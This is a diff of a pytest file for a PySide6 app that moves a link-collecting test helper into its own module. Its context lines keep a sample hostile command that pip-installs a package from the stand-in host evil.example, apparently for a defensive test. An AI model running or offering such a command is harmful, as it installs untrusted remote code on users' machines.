@@ -18,6 +18,7 @@ import json
 import shlex
 
 import pytest
+from output_links import hrefs as _hrefs  # (tests/app/output_links.py)
 from PySide6.QtCore import QUrl
 from PySide6.QtWidgets import QMessageBox
 
@@ -32,21 +33,6 @@ RUN_TIMEOUT_MS = 90_000
 MISSING = "some_missing_module_p3"
 URL = "https://evil.example/numpy-1.0.tar.gz"
 EVIL_COMMAND = f"pip install 'numpy @ {URL}'"
-
-
-def _hrefs(output) -> list[str]:
-    """Every link in the output pane's document (what a click would emit)."""
-    found = []
-    block = output.document().begin()
-    while block.isValid():
-        it = block.begin()
-        while not it.atEnd():
-            fmt = it.fragment().charFormat()
-            if fmt.isAnchor():
-                found.append(fmt.anchorHref())
-            it += 1
-        block = block.next()
-    return found
 
 
 @pytest.fixture
